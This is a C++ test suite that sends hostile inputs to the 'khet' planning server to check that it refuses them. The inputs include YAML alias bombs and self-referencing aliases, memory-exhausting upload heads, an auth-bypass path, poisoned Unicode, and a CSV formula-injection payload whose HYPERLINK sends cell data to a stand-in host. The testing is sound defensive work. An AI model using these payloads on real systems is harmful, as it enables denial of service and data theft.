// The probes of docs/SECURITY.md ("Hostile input"), each sent to the real `khet serve` over
// loopback as an attacker or a careless user would, on both engines where it touches the store:
// none may crash the server, hold on to what it was sent, or leave a document that cannot be
// produced.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "sheets/sheet.hpp"
#include "store/sql_store.hpp"
#include "tests/support/databases.hpp"
#include "tests/support/fixtures.hpp"
#include "tests/support/khet_process.hpp"
#include "tests/support/temp_dir.hpp"

namespace khet::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
using Json = nlohmann::json;
using namespace std::chrono_literals;

// The demo office in a store of one engine, served by one `khet serve` for a whole suite.
struct DemoServer {
    std::unique_ptr<TempDir> folder = std::make_unique<TempDir>();
    std::string database;
    ServerProcess server;

    std::filesystem::path Log() const { return folder->File("khet.log"); }
    int Port() const { return server.port; }
    std::string Password(const std::string& login) const {
        return DemoPassword(folder->File("accounts.json"), login);
    }
    bool Alive() {
        return server.process && !server.process->WaitFor(0ms) &&
               Connection(server.port).Connected();
    }
};

std::string DatabaseOf(const std::string& engine, const TempDir& folder) {
    if (engine == "sqlite") return folder.File("khet.db").string();
    return ThrowawayPostgres::Instance().NewDatabase();
}

std::unique_ptr<DemoServer> StartDemo(const std::string& engine) {
    auto demo = std::make_unique<DemoServer>();
    demo->database = DatabaseOf(engine, *demo->folder);
    KhetProcess build({"demo", "--db", demo->database, "--school-list",
                       SourcePath("data/demo/obec_schools_2402.tsv").string(), "--accounts-file",
                       demo->folder->File("accounts.json").string()},
                      demo->Log());
    const auto built = build.WaitFor(120s);
    EXPECT_TRUE(built && WIFEXITED(*built) && WEXITSTATUS(*built) == 0) << ReadText(demo->Log());
    KhetProcess plans({"plan", "import", "--db", demo->database, SourcePath("data/frameworks"),
                       SourcePath("data/plans")},
                      demo->Log());
    const auto imported = plans.WaitFor(120s);
    EXPECT_TRUE(imported && WIFEXITED(*imported) && WEXITSTATUS(*imported) == 0)
        << ReadText(demo->Log());
    demo->server =
        StartServer(demo->database, demo->folder->Path(), demo->Log(), {"--threads", "2"});
    EXPECT_GT(demo->server.port, 0) << ReadText(demo->Log());
    return demo;
}

class HostileInput : public ::testing::TestWithParam<std::string> {
  protected:
    static void TearDownTestSuite() { servers_.clear(); }

    DemoServer& Demo() {
        auto& demo = servers_[GetParam()];
        if (!demo) demo = StartDemo(GetParam());
        return *demo;
    }

    HttpSession SignIn(const std::string& login) {
        DemoServer& demo = Demo();
        std::string failure;
        auto session = SignInOverHttp(demo.Port(), login, demo.Password(login), &failure);
        EXPECT_TRUE(session) << login << ": " << failure;
        return session.value_or(HttpSession{});
    }

    HttpReply Send(const std::string& request) {
        Connection connection(Demo().Port());
        EXPECT_TRUE(connection.Send(request));
        return connection.Read();
    }

    HttpReply Call(const HttpSession& session, std::string_view method, std::string_view target,
                   std::string_view body = "") {
        return Send(SessionRequest(session, method, target, body, true));
    }

    // The school of the demo's school officer, and that account's login.
    std::string OfficerSchool() {
        const auto parsed = Json::parse(ReadText(Demo().folder->File("accounts.json")));
        for (const Json& account : parsed["accounts"]) {
            if (account["role"] == "school_officer") return account["school"];
        }
        ADD_FAILURE() << "no school officer among the demo accounts";
        return "";
    }

    Json School(const HttpSession& session, const std::string& code) {
        const HttpReply reply = Call(session, "GET", "/api/v1/schools/" + code);
        EXPECT_EQ(reply.status, 200) << reply.body;
        return Json::parse(reply.body, nullptr, false)["school"];
    }

    // PUT /api/v1/schools/{code} with the school as it is but for `changes`.
    HttpReply EditSchool(const HttpSession& session, const std::string& code, const Json& changes) {
        const Json school = School(session, code);
        Json body = {{"version", school["version"]},
                     {"name", school["name"]},
                     {"district", school["district"]},
                     {"zone_code", school["zone_code"]},
                     {"level_span", school["level_span"]}};
        body.update(changes);
        return Call(session, "PUT", "/api/v1/schools/" + code, body.dump());
    }

    // Writes the school's district straight to the store, as a value stored before the input
    // hygiene existed (or by another program) would be.
    void PoisonDistrict(const std::string& code, const std::string& district) {
        auto connection = store::Connect(Demo().database);
        ASSERT_TRUE(connection) << Describe(connection.error());
        store::SqlStore store(std::move(*connection));
        auto school = store.FindSchool(code);
        ASSERT_TRUE(school) << Describe(school.error());
        const long long version = school->version;
        school->district = district;
        auto saved = store.UpdateSchool(*school, version, TestAudit("school.update"));
        ASSERT_TRUE(saved) << Describe(saved.error());
    }

    static Json ErrorOf(const HttpReply& reply) {
        Json body = Json::parse(reply.body, nullptr, false);
        EXPECT_FALSE(body.is_discarded()) << reply.body;
        return body.is_discarded() ? Json::object() : body["error"];
    }

    static std::map<std::string, std::unique_ptr<DemoServer>> servers_;
};

std::map<std::string, std::unique_ptr<DemoServer>> HostileInput::servers_;

const std::string kPlanHead =
    "format: khet-plan/1\noffice: \"2402\"\nfiscal_year: 2599\ntitle: แผนทดสอบ\n"
    "groups: [{code: แผน}]\nitems:\n";
const std::string kPlanUpload = "/api/v1/offices/2402/plans?dry_run=true&filename=hostile.yaml";

// Probe 1: a plan file whose list names itself crashed the server with SIGSEGV.
TEST_P(HostileInput, APlanFileWhoseAliasNamesItselfIsRefusedAndTheServerGoesOn) {
    const HttpSession planner = SignIn("planner.2402");
    const HttpReply reply =
        Call(planner, "POST", kPlanUpload, kPlanHead + "  &r [ {strategy: x, items: *r} ]\n");
    EXPECT_EQ(reply.status, 400) << reply.body;
    EXPECT_THAT(ErrorOf(reply)["message"].get<std::string>(), HasSubstr("hostile.yaml:7"));
    EXPECT_TRUE(Demo().Alive()) << ReadText(Demo().Log());
}

// Probe 2: aliases of aliases took the server from 20 MB to 1.25 GB.
TEST_P(HostileInput, AnAliasBombIsRefusedAtItsFirstAlias) {
    std::string bomb = kPlanHead.substr(0, kPlanHead.size() - 7) + "a0: &a0 {strategy: x}\n";
    for (int level = 1; level <= 40; ++level) {
        bomb += fmt::format("a{}: &a{} {{strategy: x, items: [*a{}, *a{}]}}\n", level, level,
                            level - 1, level - 1);
    }
    bomb += "items: [*a40]\n";
    const HttpReply reply = Call(SignIn("planner.2402"), "POST", kPlanUpload, bomb);
    EXPECT_EQ(reply.status, 400) << reply.body;
    EXPECT_THAT(ErrorOf(reply)["message"].get<std::string>(), HasSubstr("การอ้างถึงของ YAML"));
    EXPECT_TRUE(Demo().Alive());
}

// Probe 6: a district ending in U+FFFF made tables 1 and 3 answer 500 for everyone, their XLSX
// malformed, and the audit PDF stayed broken after the district was put right.
TEST_P(HostileInput, NoncharactersAreRefusedAndAValueStoredBeforeStillPrints) {
    const std::string code = OfficerSchool();
    const HttpSession officer = SignIn("school." + code);
    const std::string district = School(officer, code)["district"];
    const HttpReply refused = EditSchool(officer, code, {{"district", district + "\uFFFF"}});
    EXPECT_EQ(refused.status, 400) << refused.body;
    EXPECT_EQ(ErrorOf(refused)["fields"][0]["field"], "district");
    EXPECT_THAT(ErrorOf(refused)["fields"][0]["message"].get<std::string>(), HasSubstr("U+FFFF"));

    // PostgreSQL refuses bytes that are not UTF-8 and NUL in text; SQLite stores them all.
    const bool sqlite = GetParam() == "sqlite";
    PoisonDistrict(code, district + "\uFFFF\x01" +
                             (sqlite ? "\xC3\x28" + std::string(1, '\0') : std::string()));
    const std::string printed = district + "\uFFFD\uFFFD" + (sqlite ? "\uFFFD(\uFFFD" : "");
    const HttpSession admin = SignIn("admin.2402");
    for (const std::string table : {"table1", "table3"}) {
        const std::string target = "/api/v1/offices/2402/statistics/" + table + "?format=";
        const HttpReply pdf = Call(admin, "GET", target + "pdf");
        EXPECT_EQ(pdf.status, 200) << table << ": " << pdf.body;
        EXPECT_TRUE(pdf.body.starts_with("%PDF-")) << table;
        const HttpReply xlsx = Call(admin, "GET", target + "xlsx");
        ASSERT_EQ(xlsx.status, 200) << table << ": " << xlsx.body;
        auto sheet = sheets::ReadXlsx(xlsx.body, table + ".xlsx");
        EXPECT_TRUE(sheet) << table << ": " << Describe(sheet.error());
        const HttpReply csv = Call(admin, "GET", target + "csv");
        ASSERT_EQ(csv.status, 200) << table;
        auto rows = sheets::ReadCsv(csv.body, table + ".csv");
        ASSERT_TRUE(rows) << table << ": " << Describe(rows.error());
        EXPECT_THAT(csv.body, HasSubstr(printed)) << table;
        EXPECT_EQ(Call(admin, "GET", "/api/v1/offices/2402/statistics/" + table).status, 200);
    }
    // Put right through the API; the audit keeps the poisoned value and still prints.
    const HttpReply restored = EditSchool(admin, code, {{"district", district}});
    EXPECT_EQ(restored.status, 200) << restored.body;
    for (const std::string format : {"pdf", "xlsx", "csv"}) {
        const HttpReply audit =
            Call(admin, "GET", "/api/v1/offices/2402/audit?entity=school&format=" + format);
        EXPECT_EQ(audit.status, 200) << format << ": " << audit.body;
    }
    EXPECT_EQ(Call(admin, "GET", "/api/v1/offices/2402/audit?entity=school").status, 200);
}

// Probe 7: a district written as a formula reached every CSV download as a live formula.
TEST_P(HostileInput, CsvDownloadsCarryFormulasAsText) {
    const std::string code = OfficerSchool();
    const HttpSession admin = SignIn("admin.2402");
    const std::string district = School(admin, code)["district"];
    const std::string formula = "=HYPERLINK(\"http://x.example/?\"&B3,\"ดู\")";
    ASSERT_EQ(EditSchool(admin, code, {{"district", formula}}).status, 200);
    for (const std::string target : {"/api/v1/offices/2402/statistics/table1?format=csv",
                                     "/api/v1/offices/2402/statistics/table3?format=csv",
                                     "/api/v1/offices/2402/audit?entity=school&format=csv"}) {
        const HttpReply csv = Call(admin, "GET", target);
        ASSERT_EQ(csv.status, 200) << target;
        auto sheet = sheets::ReadCsv(csv.body, "x.csv");
        ASSERT_TRUE(sheet) << Describe(sheet.error());
        bool found = false;
        for (const auto& row : sheet->rows) {
            for (const std::string_view cell : row.cells) {
                EXPECT_FALSE(cell.starts_with("=") || cell.starts_with("+") ||
                             cell.starts_with("@"))
                    << target << ": " << cell;
                // Tables show the district in a cell of its own; the audit inside its JSON.
                found = found || cell.starts_with("'=HYPERLINK") ||
                        cell.find("\"=HYPERLINK(") != std::string::npos;
            }
        }
        EXPECT_TRUE(found) << target << " lost the district:\n" << csv.body;
    }
    ASSERT_EQ(EditSchool(admin, code, {{"district", district}}).status, 200);
}

// Probe 9: names made only of invisible characters, and control characters in one-line fields.
TEST_P(HostileInput, BlankLookingTextAndControlCharactersAreRefusedOrMadeOneLine) {
    const std::string code = OfficerSchool();
    const HttpSession admin = SignIn("admin.2402");
    const Json before = School(admin, code);
    for (const std::string blank : {"\u200B\u200B", "\u00A0", "\uFEFF", "\u200C\u200D"}) {
        const HttpReply reply = EditSchool(admin, code, {{"name", blank}});
        EXPECT_EQ(reply.status, 400) << reply.body;
        EXPECT_EQ(ErrorOf(reply)["fields"][0]["field"], "name");
    }
    const HttpReply nul =
        EditSchool(admin, code, {{"district", std::string("บาง") + '\0' + "คล้า"}});
    EXPECT_EQ(nul.status, 400) << nul.body;
    EXPECT_THAT(ErrorOf(nul)["fields"][0]["message"].get<std::string>(), HasSubstr("U+0000"));
    const HttpReply spaced = EditSchool(
        admin, code, {{"name", "\u200Bโรงเรียน\tทดสอบ\u2028ใหม่ "}, {"district", "บาง\nคล้า"}});
    ASSERT_EQ(spaced.status, 200) << spaced.body;
    const Json saved = Json::parse(spaced.body)["school"];
    EXPECT_EQ(saved["name"], "โรงเรียน ทดสอบ ใหม่");
    EXPECT_EQ(saved["district"], "บาง คล้า");
    ASSERT_EQ(EditSchool(admin, code, {{"name", before["name"]}, {"district", before["district"]}})
                  .status,
              200);
}

// Probe 5: a formula of 92233720368547758 answered 500 but stored -92233720368547758.08, and
// from then on the plan answered 500 to everyone and the value could not be cleared.
TEST_P(HostileInput, AFormulaPastItsRangeStoresNothingAndAStoredValuePastItDoesNotBreakThePlan) {
    const HttpSession planner = SignIn("planner.2402");
    const std::string plan_path = "/api/v1/offices/2402/plans/2565";
    const auto plan = [&] {
        const HttpReply reply = Call(planner, "GET", plan_path);
        EXPECT_EQ(reply.status, 200) << reply.body;
        return Json::parse(reply.body, nullptr, false);
    };
    Json page = plan();
    std::string key;
    for (const Json& line : page["kpi_table"]) {
        if (line["row"] == 0 && line["unit"] == "ร้อยละ") {
            key = line["key"];
            break;
        }
    }
    ASSERT_FALSE(key.empty()) << page.dump();
    const auto post = [&](const std::string& what, Json body) {
        body["version"] = plan()["version"];
        return Call(planner, "POST", plan_path + "/" + what, body.dump());
    };
    const HttpReply literal =
        post("edits", {{"edit", "formula"}, {"key", key}, {"formula", "92233720368547758"}});
    EXPECT_EQ(literal.status, 400) << literal.body;
    EXPECT_THAT(ErrorOf(literal)["message"].get<std::string>(), HasSubstr("ใหญ่เกินไป"));
    ASSERT_EQ(
        post("edits", {{"edit", "formula"}, {"key", key}, {"formula", "1000000 * 1000000 * 10"}})
            .status,
        200);
    const HttpReply computed = post("compute", {{"round", 3}});
    EXPECT_EQ(computed.status, 409) << computed.body;
    EXPECT_THAT(computed.body, HasSubstr("เกินช่วงที่เก็บได้"));
    ASSERT_EQ(post("edits", {{"edit", "formula"}, {"key", key}, {"formula", ""}}).status, 200);

    // A value stored out of range (by an older Khet): the plan reads, and says which it is.
    const auto report = [&](const std::string& value) {
        return Call(planner, "PUT", plan_path + "/results",
                    Json{{"version", plan()["version"]},
                         {"key", key},
                         {"fiscal_year", 2565},
                         {"round", 12},
                         {"value", value}}
                        .dump());
    };
    ASSERT_EQ(report("50").status, 200);
    {
        auto connection = store::Connect(Demo().database);
        ASSERT_TRUE(connection) << Describe(connection.error());
        ASSERT_TRUE((*connection)
                        ->Execute("UPDATE kpi_results SET value = '-92233720368547758.08' WHERE "
                                  "office_code = '2402' AND fiscal_year = 2565 AND item_key = '" +
                                  key +
                                  "' AND result_year = 2565 AND round = 12;"
                                  "UPDATE data_generation SET value = value + 1;"));
    }
    page = plan();
    const Json* poisoned = nullptr;
    for (const Json& line : page["kpi_table"]) {
        if (line["key"] == key && line["row"] == 0) poisoned = &line;
    }
    ASSERT_TRUE(poisoned);
    EXPECT_THAT((*poisoned)["status"]["rule"].get<std::string>(),
                HasSubstr("\"-92233720368547758.08\" อ่านไม่ได้"));
    EXPECT_EQ(Call(planner, "GET", plan_path + "/document?format=pdf").status, 200);
    EXPECT_EQ(Call(planner, "GET", plan_path + "/document?part=kpi_table&format=xlsx").status, 200);
    // …and a new value replaces it through the API.
    const HttpReply cleared = report("-");
    ASSERT_EQ(cleared.status, 200) << cleared.body;
    EXPECT_THAT(cleared.body, Not(HasSubstr("92233720368547758")));
}

// The head of an upload: no body is sent with it, so any answer that comes was decided before
// the server read a byte of the body.
std::string UploadHead(const HttpSession* session, std::string_view target, std::size_t length,
                       std::string_view method = "POST") {
    std::string head = fmt::format("{} {} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {}\r\n",
                                   method, target, length);
    if (session) {
        head += fmt::format("Cookie: {}\r\nX-CSRF-Token: {}\r\n", session->cookie, session->csrf);
    }
    return head + "\r\n";
}

const std::string kImport = "/api/v1/offices/2402/imports/census?round=2564/2&dry_run=true";

// Probe 3: the body (up to 64 MB) was read before the 401; 16 anonymous connections took the
// server from 43 MB to 1 GB.
TEST_P(HostileInput, AnonymousUploadsAreRefusedFromTheirHeadWithoutTheirBody) {
    std::vector<std::unique_ptr<Connection>> connections;
    for (int i = 0; i < 16; ++i) {
        connections.push_back(std::make_unique<Connection>(Demo().Port()));
        ASSERT_TRUE(connections.back()->Send(UploadHead(nullptr, kImport, 60'000'000)));
    }
    for (auto& connection : connections) {
        const HttpReply reply = connection->Read();
        EXPECT_EQ(reply.status, 401) << reply.body;
        EXPECT_EQ(reply.Header("connection"), "close");
    }
    // One that sends its body anyway is answered, and the body is dropped as it comes.
    Connection stubborn(Demo().Port());
    ASSERT_TRUE(stubborn.Send(UploadHead(nullptr, kImport, 8'000'000)));
    stubborn.Send(std::string(8'000'000, 'x'));
    EXPECT_EQ(stubborn.Read().status, 401);
    EXPECT_TRUE(Demo().Alive());
}

// A user without the right is refused before the body, with 403 and never a 400 about it; a
// body over what the route takes is refused from its Content-Length.
TEST_P(HostileInput, TheGateDecidesPermissionAndSizeBeforeTheBody) {
    const HttpSession citizen = SignIn("public.2402");
    const HttpSession supervisor = SignIn("supervisor.2402");
    const HttpSession planner = SignIn("planner.2402");
    const auto head = [&](const HttpSession& session, std::string_view target, std::size_t length,
                          std::string_view method = "POST") {
        return Send(UploadHead(&session, target, length, method));
    };
    EXPECT_EQ(head(citizen, kImport, 60'000'000).status, 403);
    EXPECT_EQ(head(citizen, "/api/v1/offices/2402/plans?dry_run=true", 1'000'000).status, 403);
    EXPECT_EQ(head(supervisor, "/api/v1/schools/" + OfficerSchool(), 100, "PUT").status, 403);
    EXPECT_EQ(head(citizen, "/api/v1/users", 100).status, 403);
    EXPECT_EQ(head(citizen, "/api/v1/offices/2402/plans/2565/results", 100, "PUT").status, 403);
    EXPECT_EQ(head(planner, "/api/v1/offices/2402/plans/2565/edits", 200'000).status, 413);
    EXPECT_EQ(head(planner, "/api/v1/offices/2402/plans?dry_run=true", 5'000'000).status, 413);
    EXPECT_EQ(head(planner, "/api/v1/offices/2402/nothing", 100).status, 404);
    // Found in review: "//api/v1/…" reached the router without the gate.
    EXPECT_EQ(Send(GetRequest("//api/v1/offices", true)).status, 401);
    EXPECT_EQ(Send(fmt::format("DELETE //api/v1/session HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                               "Cookie: {}\r\nConnection: close\r\n\r\n",
                               planner.cookie))
                  .status,
              403);
    // The same users' bodies, sent whole, get the same answers.
    const HttpReply invalid = Call(supervisor, "PUT", "/api/v1/schools/" + OfficerSchool(), "{");
    EXPECT_EQ(invalid.status, 403) << invalid.body;
}

// One upload at a time from one address: a second waits (429) until the first is answered.
TEST_P(HostileInput, OneAddressSendsOneUploadAtATime) {
    const HttpSession planner = SignIn("planner.2402");
    const std::string csv = "school_code,grade,male,female,rooms\n" + std::string(2'000'000, '\n');
    Connection first(Demo().Port());
    ASSERT_TRUE(first.Send(UploadHead(&planner, kImport, csv.size())));
    ASSERT_TRUE(first.Send(csv.substr(0, 1000)));
    std::this_thread::sleep_for(200ms);  // the first head is admitted on a worker
    const HttpReply second = Send(UploadHead(&planner, kImport, csv.size()));
    EXPECT_EQ(second.status, 429) << second.body;
    EXPECT_EQ(second.Header("retry-after"), "10");
    ASSERT_TRUE(first.Send(csv.substr(1000)));
    const HttpReply answered = first.Read();
    EXPECT_EQ(answered.status, 400) << answered.body;  // a header and no rows
    Connection third(Demo().Port());
    ASSERT_TRUE(third.Send(UploadHead(&planner, kImport, csv.size()) + csv));
    EXPECT_EQ(third.Read().status, 400);
}

// docs/SECURITY.md: changing one's password left the user's other sessions alive and the CSRF
// token unchanged.
TEST_P(HostileInput, ChangingAPasswordEndsEverySessionAndRenewsTheTokens) {
    const HttpSession admin = SignIn("admin.2402");
    const std::string login = "hostile." + GetParam();
    const HttpReply added = Call(admin, "POST", "/api/v1/users",
                                 Json{{"login", login},
                                      {"display_name", "ผู้ทดสอบ เปลี่ยนรหัส"},
                                      {"role", "planner"},
                                      {"office", "2402"}}
                                     .dump());
    ASSERT_EQ(added.status, 201) << added.body;
    const std::string first_password = Json::parse(added.body)["one_time_password"];
    std::string failure;
    const auto here = SignInOverHttp(Demo().Port(), login, first_password, &failure);
    const auto elsewhere = SignInOverHttp(Demo().Port(), login, first_password, &failure);
    ASSERT_TRUE(here && elsewhere) << failure;
    const HttpReply changed = Call(
        *here, "POST", "/api/v1/session/password",
        Json{{"current_password", first_password}, {"new_password", "a-new-password-2569"}}.dump());
    ASSERT_EQ(changed.status, 200) << changed.body;
    const std::string cookie = changed.Header("set-cookie");
    const HttpSession renewed{cookie.substr(0, cookie.find(';')),
                              Json::parse(changed.body)["csrf_token"]};
    EXPECT_NE(renewed.cookie, here->cookie);
    EXPECT_NE(renewed.csrf, here->csrf);
    EXPECT_EQ(Call(*here, "GET", "/api/v1/offices").status, 401);
    EXPECT_EQ(Call(*elsewhere, "GET", "/api/v1/offices").status, 401);
    EXPECT_EQ(Call(renewed, "GET", "/api/v1/offices").status, 200);
    // The old CSRF token is worth nothing with the new session.
    EXPECT_EQ(Call({renewed.cookie, here->csrf}, "DELETE", "/api/v1/session").status, 403);
    EXPECT_EQ(Call(renewed, "DELETE", "/api/v1/session").status, 204);
}

INSTANTIATE_TEST_SUITE_P(Engines, HostileInput, ::testing::ValuesIn(kEngines));

// The command line reads the same files the same way (it exited with 139).
TEST(HostileCommandLine, PlanImportRefusesASelfNamingAliasWithExitCode2AndALine) {
    const TempDir folder;
    const auto file =
        folder.Write("hostile.yaml", kPlanHead + "  &r [ {strategy: x, items: *r} ]\n");
    KhetProcess import(
        {"plan", "import", "--dry-run", "--db", folder.File("k.db").string(), file.string()},
        folder.File("log"));
    const auto status = import.WaitFor(60s);
    ASSERT_TRUE(status);
    EXPECT_TRUE(WIFEXITED(*status) && WEXITSTATUS(*status) == 2) << DescribeExit(*status);
    EXPECT_THAT(ReadText(folder.File("log")), HasSubstr("hostile.yaml:7"));
}

}  // namespace
}  // namespace khet::testing
